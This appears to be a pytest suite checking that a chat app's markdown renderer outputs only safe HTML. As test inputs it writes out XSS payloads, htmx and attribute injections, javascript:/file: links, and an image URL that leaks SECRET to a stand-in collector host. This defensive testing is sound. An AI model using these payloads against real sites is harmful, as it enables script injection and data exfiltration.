"""Any text to safe HTML: nothing runs, nothing is fetched, nothing that was written is lost."""

import os
import re
import time

import pytest
from casefiles import FOLDER, case_file
from dom import Element, parse

from app.rendering.answer import render_answer
from app.rendering.markdown import render_markdown

# The whole size in the large run (see test_blocks), a part of it each time.
LARGE = 100_000 if "MARKDOWN_EXAMPLES" in os.environ else 20_000
GENERATED = [case for case in case_file("generators.json")["cases"] if case["id"].startswith("C11")]
SAFE_TAGS = {
    *("#document", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em", "strong"),
    *("s", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "button", "section"),
    *("sup", "details", "summary"),
}


def rendered(text: str) -> Element:
    return parse(render_markdown(text))


def file(name: str) -> str:
    return (FOLDER / name).read_text(encoding="utf-8")


def check_safe(html: Element) -> None:
    for element in html:
        assert element.tag in SAFE_TAGS or re.fullmatch(r"m[a-z]+", element.tag), element.tag
        for name, value in element.attributes.items():
            assert not name.startswith(("on", "hx-", "data-hx", "style", "src", "formaction")), (element.tag, name)
            if name == "href":
                assert re.match(r"(https?:|mailto:|#|//)", value), value


@pytest.mark.parametrize("name", ["markdown-xss.md", "markdown-image-exfil.md", "markdown-literal-angle.md"])
def test_c06_c08_nothing_in_a_text_runs_or_is_fetched(name: str) -> None:
    check_safe(rendered(file(name)))


@pytest.mark.parametrize("line", [line for line in file("markdown-xss.md").splitlines() if line.strip()])
def test_c06_each_payload_alone(line: str) -> None:
    check_safe(rendered(line))
    check_safe(rendered(f"- > {line}"))


def test_c06_code_that_looks_dangerous_stays_visible() -> None:
    text = rendered(file("markdown-xss.md")).text
    for shown in ("alert('p1')", "<img src=x onerror=alert('p10')>", "<script>alert('p11')</script>"):
        assert shown in text


def test_c08_a_picture_is_not_fetched_but_its_words_are_there() -> None:
    html = rendered("![the *moon*](https://collector.example/p.png?d=SECRET)")
    assert not html.all("img")
    assert "moon" in html.text


def test_c17_what_only_looks_like_a_tag_is_all_visible() -> None:
    text = " ".join(rendered(file("markdown-literal-angle.md")).text.split())
    for shown in (
        "5 < 10",
        "List<String>",
        "vector<int>",
        "<T> is a type",
        "a<b>c</b>d",
        "<- and ->",
        "a <= b",
        "R&D",
    ):
        assert shown in text


@pytest.mark.parametrize(
    "text",
    [
        '<div hx-get="/x" hx-trigger="load">x</div>',
        '<hx-partial hx-target="#messages">x</hx-partial>',
        '[a](http://x.example "<hx-partial hx-target=body>")',
        '[a](http://x.example "\\" onmouseover=alert(1) x=\\"")',
        "```<hx-partial>\nx\n```",
        '```js" hx-get="/x\nx\n```',
        "<data-hx-get=/x>",
        "http://x.example/<hx-get>",
    ],
)
def test_htmx_finds_nothing_to_do_in_a_message(text: str) -> None:
    html = render_markdown(text)
    check_safe(parse(html))
    assert "<hx-" not in html


def test_links_leave_without_telling_where_from() -> None:
    (link,) = rendered("see https://example.org/a?b=c&d=e now").all("a")
    assert link["href"] == "https://example.org/a?b=c&d=e"
    assert {"noopener", "noreferrer"} <= set(link["rel"].split())


def test_the_usual_marks_are_understood() -> None:
    html = rendered(
        "# T\n\n1. *a*\n2. **b** `c` ~~d~~\n\n> q\n\n| x | y |\n|:-:|--:|\n| 1 | 2 |\n\n```python\nf()\n```\n"
    )
    for tag in ("h3", "ol", "em", "strong", "code", "s", "blockquote", "table", "pre"):
        assert html.all(tag), tag
    assert html.one("pre").text == "f()\n"


@pytest.mark.parametrize("case", GENERATED, ids=lambda case: str(case["id"]))
def test_c11_deep_nesting_takes_no_time_and_breaks_nothing(case: dict[str, object]) -> None:
    if "unit" in case:
        text = str(case["unit"]) * int(str(case["times"])) + str(case["suffix"])
    else:
        text = "\n".join("  " * depth + "- a" for depth in range(300))
    began = time.monotonic()
    check_safe(rendered(text))
    assert time.monotonic() - began < 3


HOSTILE = [
    *(
        "[",
        "![",
        "[a](",
        "[a][",
        "*a",
        "*a_ ",
        "[*",
        "`a``",
        "\\(",
        "$a ",
        "$$a",
        "<",
        "&",
        "http://",
        "www.a ",
        "a@b.c ",
        ":",
    ),
    *(
        "> ",
        ">",
        "- ",
        "# a\n",
        "- a\n",
        "a|b\n-|-\n",
        "[a]: http://x\n",
        "[^a]: b\n",
        "[^a",
        "a\n\n",
        "$$\n",
        "\\text{",
    ),
    *("<think>", "</think>\n", "`</think>", "\t", "\r", "```\n", "~~~", "---\n", "a\n", "$x$ ", "- [ ] a\n"),
]


@pytest.mark.parametrize("unit", HOSTILE, ids=ascii)
def test_c13_much_of_anything_takes_no_long_time(unit: str) -> None:
    text = unit * (LARGE // len(unit))
    began = time.process_time()
    check_safe(parse(render_answer(text, "m1")[:LARGE]))
    # A second is the goal on a machine of its own; what this catches are times that grow with the square.
    assert time.process_time() - began < 8


def test_a_table_of_thousands_of_columns_is_text() -> None:
    text = f"|{'a|' * 3000}\n|{'-|' * 3000}\n" + "|a|\n" * 200
    html = render_markdown(text)
    assert "<table" not in html
    assert len(html) < 2 * len(text)


STRANGE = ["", "\0", "a\0b", "\ufeff", "\r\n\r", "\u2028", "&#0;", "&#xD800;", "\x1b[0m", "[", "```", "\ud800"]


@pytest.mark.parametrize("text", STRANGE, ids=ascii)
def test_any_text_is_taken(text: str) -> None:
    check_safe(rendered(text))


def test_c15_each_block_takes_its_direction_from_its_own_text_and_code_stays_left_to_right() -> None:
    html = rendered(file("rtl.md"))
    assert [element.get("dir") for element in html.children if isinstance(element, Element)] == [
        *("auto", "auto", "ltr", "auto")
    ]
    assert {code.get("dir") for code in html.all("code") if code.parent and code.parent.tag != "pre"} == {"ltr"}


def test_c19_headings_stay_below_those_of_the_page() -> None:
    html = rendered("# User\nfoo\n\n## Assistant\nbar\n\n###### Six\n")
    assert [element.tag for element in html if re.fullmatch("h[1-6]", element.tag)] == ["h3", "h4", "h6"]


def test_c03_a_fence_in_a_fence_is_text() -> None:
    html = rendered(file("markdown-nested-fences.md"))
    (block,) = html.all("pre")
    assert "```sh\necho hello\n```" in block.text
    assert "~~~~\ntile block".replace("tile", "tilde") in block.text
    assert [heading.text for heading in html.all("h3")] == ["User"]


def test_tables_are_aligned_by_class() -> None:
    html = rendered("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
    assert [cell["class"] for cell in html.all("td")] == ["align-left", "align-center", "align-right"]


def test_tasks_are_marks_that_need_no_form() -> None:
    html = rendered("- [ ] open\n- [x] done\n")
    assert [mark["aria-label"] for mark in html.all("span", class_="task")] == ["to do", "done"]
    assert not html.all("input")


def test_footnotes_carry_the_id_of_their_message() -> None:
    html = parse(render_markdown("a[^1] b[^1]\n\n[^1]: note\n", "m7"))
    assert [link["href"] for link in html.all("a")] == ["#fn-m7-1", "#fn-m7-1", "#fnref-m7-1", "#fnref-m7-1:1"]
    assert html.one("li")["id"] == "fn-m7-1"


@pytest.mark.parametrize(
    "url", ["/sign-out", "#x", "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "x.html"]
)
def test_a_link_that_leads_elsewhere_than_to_the_web_is_text(url: str) -> None:
    html = rendered(f"[words]({url})")
    assert not html.all("a")
    assert "words" in html.text


def test_bare_addresses_are_links_and_file_names_are_not() -> None:
    html = rendered(
        "https://example.org/a_b_(c)). www.example.org, me@example.org; main.py and config.toml 見てhttps://x.jp/a。次"
    )
    assert [link["href"] for link in html.all("a")] == [
        *("https://example.org/a_b_(c)", "http://www.example.org", "mailto:me@example.org", "https://x.jp/a")
    ]


def test_c08_pictures_are_shown_only_from_hosts_that_are_allowed() -> None:
    text = "![a](https://mine.example/a.png) ![b](https://other.example/b.png) [![c](https://other.example/c.png)](http://d.example)"
    html = parse(render_markdown(text, "m1", image_hosts={"mine.example"}))
    assert [image["src"] for image in html.all("img")] == ["https://mine.example/a.png"]
    assert [link["href"] for link in html.all("a")] == ["https://other.example/b.png", "http://d.example"]
    assert not parse(render_markdown(text)).all("img")


def test_no_data_attribute_comes_from_a_text() -> None:
    for text in (
        '<button data-copy-code data-hx-get="/x">',
        '```" data-hx-get="/x\nx\n```',
        '[a](http://x.y "data-hx-get=/x")',
    ):
        for element in rendered(text):
            assert {name for name in element.attributes if name.startswith("data-")} <= {"data-copy-code"}
            assert element.get("data-copy-code", "") == ""
